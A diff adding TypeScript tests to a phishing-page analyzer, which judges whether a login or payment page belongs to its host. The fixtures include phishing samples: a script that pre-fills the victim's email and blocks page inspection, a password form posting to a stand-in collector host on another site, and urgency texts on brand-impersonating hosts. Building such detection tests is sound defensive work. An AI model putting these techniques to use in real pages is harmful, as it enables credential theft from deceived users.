@@ -524,6 +524,85 @@ describe('analysis: signal rules', () => {
     });
   });
 
+  describe('identity: whether the page is its host\'s own (analysis/identity.ts, signals/identity.ts)', () => {
+    const judge = (url: string, body: string): ReturnType<typeof analyze> => {
+      const result = analyze(inputFromFetch(html(url, body)), { threatIntel: ThreatIntelIndex.empty(), rules });
+      for (const s of result.signals) produced.add(s.id);
+      return result;
+    };
+    const ids = (r: ReturnType<typeof analyze>): string[] => r.signals.map((s) => s.id);
+    const login = '<form method="post" action="/session"><input name="email" type="email"><input name="password" type="password"><button>Sign in</button></form>';
+
+    it('identity-not-own (info) when no title, site name, copyright or logo names the host; a page naming its host (or its initials, or with the words site names add) is its own', () => {
+      assert.ok(ids(judge('https://acct-3921.example/l', `<title>Sign in</title>${login}`)).includes('identity-not-own'));
+      for (const [url, head] of [
+        ['https://www.parcelo.ie/login', '<title>Sign in | Parcelo</title>'],
+        ['https://app.getbrightdesk.io/login', '<meta property="og:site_name" content="Brightdesk">'],
+        ['https://www.mit.example/login', '<title>Massachusetts Institute of Technology</title>'],
+        ['https://online.harbor-state-bank.example/', '<title>Online banking</title><footer>© 2026 Harbor State Bank. All rights reserved.</footer>'],
+        ['https://acme.okta.com/', '<title>Acme Corporation - Sign In</title>'],
+      ] as const) {
+        assert.ok(!ids(judge(url, `${head}${login}`)).includes('identity-not-own'), url);
+      }
+    });
+
+    it('dressed-host and shared-hosting: a registrable name dressed as an account service, a site on a platform anyone publishes to; a plain company name is neither', () => {
+      const r = judge('https://acme-secure-login.example/', `<title>Acme</title>${login}`);
+      assert.ok(ids(r).includes('dressed-host'));
+      assert.ok(ids(r).includes('identity-not-own'), 'a dressed host is nobody\'s own name');
+      assert.equal(r.verdict, 'suspicious');
+      assert.ok(r.decidedBy?.includes('combo:dressed-credentials'));
+      assert.ok(ids(judge('https://docs-view-3f.pages.dev/', `<title>Sign in</title>${login}`)).includes('shared-hosting'));
+      const plain = judge('https://app.kintai-cloud.example/login', `<title>勤怠クラウド</title>${login}`);
+      assert.ok(!ids(plain).includes('dressed-host'));
+      assert.equal(plain.verdict, 'clean');
+    });
+
+    it('victim-prefill and anti-inspection beside a password, on a page not its host\'s own, are a kit (kit-traits-credentials)', () => {
+      const kit = judge(
+        'https://mailbox-7731.example/owa/',
+        `<title>Sign in</title>${login}<script>var e=atob(location.hash.slice(1));document.querySelector('[name=email]').value=e;document.addEventListener('contextmenu',function(x){x.preventDefault()});document.onkeydown=function(k){if(k.keyCode==123)return false};</script>`,
+      );
+      assert.ok(ids(kit).includes('victim-prefill') && ids(kit).includes('anti-inspection'));
+      assert.equal(kit.verdict, 'malicious');
+      assert.ok(kit.decidedBy?.includes('combo:kit-traits-credentials'));
+      // The same scripts on the organisation's own login (an invitation link pre-fills the address).
+      const own = judge('https://app.tallyboard.example/login', `<title>Sign in to Tallyboard</title>${login}<script>var e=new URLSearchParams(location.search).get('email');if(e)document.querySelector('[name=email]').value=e;</script>`);
+      assert.equal(own.verdict, 'clean');
+    });
+
+    it('pressure-text: trouble on an account-like subject or a deadline on a demand, in several languages; decides beside a brand, not alone', () => {
+      for (const sentence of ['Your subscription payment was declined.', 'Ihr Paket wurde zurückgehalten.', 'Vérifiez votre compte sous 24 heures.', 'Su tarjeta ha sido bloqueada por seguridad.']) {
+        assert.ok(ids(judge('https://notice-18.example/', `<p>${sentence}</p>`)).includes('pressure-text'), sentence);
+      }
+      assert.equal(judge('https://notice-18.example/', '<p>Your subscription payment was declined.</p>').verdict, 'clean');
+      const brand = judge('https://parcel-notice-18.example/', '<title>DHL Express</title><h1>DHL</h1><p>Your parcel could not be delivered. Pay the outstanding amount within 48 hours.</p>');
+      assert.equal(brand.verdict, 'malicious');
+      // Labels of a card form are not sentences about trouble ("Expiration date" is not "expired").
+      assert.ok(!ids(judge('https://shop-18.example/pay', '<form><label>Card number</label><input name="cc" autocomplete="cc-number"><label>Expiration date</label><input name="exp"><button>Pay now</button></form>')).includes('pressure-text'));
+    });
+
+    it('cross-site-credentials: a password form posting to another site, on a page not its host\'s own', () => {
+      const r = judge('https://docs-7f2.example/view', '<title>Document</title><form method="post" action="https://collect.other-site.example/p"><input name="email"><input type="password" name="p"><button>Open</button></form>');
+      assert.ok(r.decidedBy?.includes('combo:cross-site-credentials'));
+      const own = judge('https://www.acme.example/login', '<title>Acme - Sign in</title><form method="post" action="https://auth.acme-sso.example/login"><input name="email"><input type="password" name="p"><button>Sign in</button></form>');
+      assert.equal(own.verdict, 'clean');
+    });
+
+    const lookalikes: [string, string, string][] = [
+      ['a parcel company\'s own customs-charges payment page', 'https://www.parcelo.ie/customs-charges/pay', '<title>Pay customs charges | Parcelo</title><header><b>Parcelo</b></header><p>Your item is being held at customs. VAT and a clearance fee are due before we can deliver it.</p><form method="post"><label>Card number</label><input name="cardNumber" autocomplete="cc-number"><label>Security code</label><input name="cvc" autocomplete="cc-csc"><button>Pay €49.86</button></form>'],
+      ['Outlook Web App on an organisation\'s own mail host', 'https://mail.kreis-oberwald.de/owa/auth/logon.aspx', '<title>Outlook</title><h1>Outlook Web App</h1><form method="post" action="/owa/auth.owa"><input name="username"><input name="password" type="password"><button>Anmelden</button></form>'],
+      ['an accounting SaaS listing the banks it connects to', 'https://www.tallybird.co.uk/', '<title>Tallybird – simple accounting</title><h1>Accounting that does itself</h1><div class="logos">Connects with Barclays · HSBC · Lloyds · NatWest · Monzo · PayPal</div><script>var cfg=JSON.parse(atob("eyJleHAiOiJoZXJvIn0="));eval("1+1")</script>'],
+      ['a login with a session-expired notice on the company\'s own site', 'https://portal.brightwater-energy.example/login', '<title>Customer portal – Brightwater Energy</title><p>Your session has expired. Please sign in again.</p><form method="post"><input name="email"><input name="password" type="password"><button>Sign in</button></form>'],
+    ];
+    for (const [what, url, body] of lookalikes) {
+      it(`stays clean: ${what}`, () => {
+        const r = judge(url, body);
+        assert.equal(r.verdict, 'clean', `${r.verdict} by ${r.decidedBy?.join(',')}`);
+      });
+    }
+  });
+
   describe('rendered capture', () => {
     it('capture-incomplete: info only, naming what the capture cut short; a rendered download is judged by the download lists', () => {
       const capture = { engine: 'browser' as const, requests: [], requestsTruncated: false, console: [], cookies: [], favicon: null, incidents: ['dialogs-dismissed', 'script-terminated'], downloads: [{ url: 'blob:https://www.example.com/x', filename: 'invoice.exe', mimeType: null, bytes: 2, sha256: null, magic: null }] };
